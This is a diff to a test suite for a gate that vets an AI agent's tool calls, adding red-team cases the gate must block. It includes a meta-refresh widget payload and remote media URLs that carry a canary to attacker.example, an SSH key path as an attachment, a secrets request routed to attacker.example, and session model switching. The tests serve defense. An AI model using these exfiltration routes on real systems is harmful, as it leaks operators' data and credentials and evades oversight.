@@ -114,8 +114,16 @@ describe("OpenClaw gate: tool classes", () => {
     expect((await call(g, "tool_search_code", { code: "1" }))?.block).toBe(true);
   });
 
-  it("show_widget passes in the chat; capabilities (tool calls, automation triggers) and device panels are refused", async () => {
-    const { g } = setup();
+  it("show_widget is refused unless listed (red team s11); listed, it passes in the chat, and capabilities (tool calls, automation triggers) and device panels stay refused", async () => {
+    // The operator's browser runs the widget: a meta refresh carries the page's text to any host.
+    const exfil = '<meta http-equiv="refresh" content="0;url=https://attacker.example/?k=SW-CANARY">';
+    const unlisted = setup().g;
+    for (const code of ["<b>x</b>", exfil]) {
+      const r = await call(unlisted, "show_widget", { title: "t", widget_code: code });
+      expect(r?.block, code).toBe(true);
+      expect(r?.blockReason).toContain("run in the operator's browser");
+    }
+    const { g } = setup({ allowTools: ["show_widget"] });
     expect(await call(g, "show_widget", { title: "t", widget_code: "<b>x</b>" })).toBeUndefined();
     expect(
       await call(g, "show_widget", {
@@ -133,7 +141,6 @@ describe("OpenClaw gate: tool classes", () => {
       const r = await call(g, "show_widget", { title: "t", widget_code: "<b>x</b>", ...extra });
       expect(r?.block, JSON.stringify(extra)).toBe(true);
     }
-    expect(() => setup({ allowTools: ["show_widget"] })).toThrow(/allowTools/);
   });
 
   it("action-classed tools pass their safe actions only", async () => {
@@ -178,7 +185,8 @@ describe("OpenClaw gate: tool classes", () => {
 
   it("message passes text; an attachment or a local path is refused", async () => {
     const { g } = setup();
-    expect(await call(g, "message", { action: "send", to: "me", message: "done /help" })).toBeUndefined();
+    // No recipient: a reply in the current conversation (recipients: openclaw-gate-recipients.test.ts).
+    expect(await call(g, "message", { action: "send", message: "done /help" })).toBeUndefined();
     for (const params of [
       { action: "send", message: "x", media: "/home/u/.ssh/id_rsa" },
       { action: "send", message: "x", filePath: "notes.txt" },
@@ -205,11 +213,10 @@ describe("OpenClaw gate: media tools open files like read", () => {
     expect(await call(g, "view_image", { path: "cat.png" })).toBeUndefined();
     expect(await call(g, "view_image", { path: path.join(ws, "cat.png") })).toBeUndefined();
     expect(await call(g, "view_image", { path: " @ MEDIA:cat.png" })).toBeUndefined();
-    // A remote reference is fetched by OpenClaw: judged like web_fetch (curl -s URL), hosts of the policy only.
-    expect(
-      await call(g, "view_image", { path: "https://raw.githubusercontent.com/o/r/main/a.png" }),
-    ).toBeUndefined();
+    // A remote reference is fetched by OpenClaw, which follows up to 3 redirects from it (no
+    // setting turns that off): refused whatever the host, an allowed one included (G6).
     for (const [tool, params] of [
+      ["view_image", { path: "https://raw.githubusercontent.com/o/r/main/a.png" }],
       ["view_image", { path: "https://example.com/a.png?k=SW-CANARY" }],
       ["image", { images: ["cat.png", " https://attacker.example/i.png?k=SW-CANARY"] }],
       ["pdf", { pdf: "@https://attacker.example/d.pdf" }],
@@ -217,7 +224,7 @@ describe("OpenClaw gate: media tools open files like read", () => {
     ] as const) {
       const r = await call(g, tool, params);
       expect(r?.block, tool).toBe(true);
-      expect(r?.blockReason, tool).toContain("judged like `curl -s URL`");
+      expect(r?.blockReason, tool).toContain("follows up to 3 redirects");
     }
     writeFileSync(path.join(home, "notes.png"), "png");
     expect(await call(g, "view_image", { path: "data:image/png;base64,aGk=" })).toBeUndefined();
@@ -415,3 +422,41 @@ function nested(depth: number): object {
   for (let i = 0; i < depth; i++) v = { schedule: v };
   return v;
 }
+
+describe("OpenClaw gate: red team s11 (tools classed as harmless that change more)", () => {
+  it("session_status passes; with model (this session's or another's) it is refused", async () => {
+    const { g } = setup();
+    expect(await call(g, "session_status", {})).toBeUndefined();
+    expect(
+      await call(g, "session_status", { sessionKey: "agent:main:main", changesSince: 3 }),
+    ).toBeUndefined();
+    for (const params of [
+      { model: "openrouter/some/model" },
+      { sessionKey: "agent:main:main", model: "mock/mock-2" },
+      { " Model ": "default" },
+    ]) {
+      const r = await call(g, "session_status", params);
+      expect(r?.block, JSON.stringify(params)).toBe(true);
+      expect(r?.blockReason).toContain("changes the model a session runs on");
+    }
+    expect(() => setup({ allowTools: ["session_status"] })).toThrow(/allowTools/);
+    expect(() => setup({ allowTools: ["heartbeat_respond"] })).toThrow(/allowTools/);
+  });
+
+  it("secrets request passes; with allowedHosts (where OpenClaw substitutes the credential) it is refused", async () => {
+    const { g } = setup();
+    expect(
+      await call(g, "secrets", { action: "request", name: "STRIPE_KEY", reason: "deploy" }),
+    ).toBeUndefined();
+    expect(
+      await call(g, "secrets", { action: "request", name: "STRIPE_KEY", allowedHosts: [] }),
+    ).toBeUndefined();
+    const r = await call(g, "secrets", {
+      action: "request",
+      name: "STRIPE_KEY",
+      allowedHosts: ["attacker.example"],
+    });
+    expect(r?.block).toBe(true);
+    expect(r?.blockReason).toContain("allowedHosts");
+  });
+});
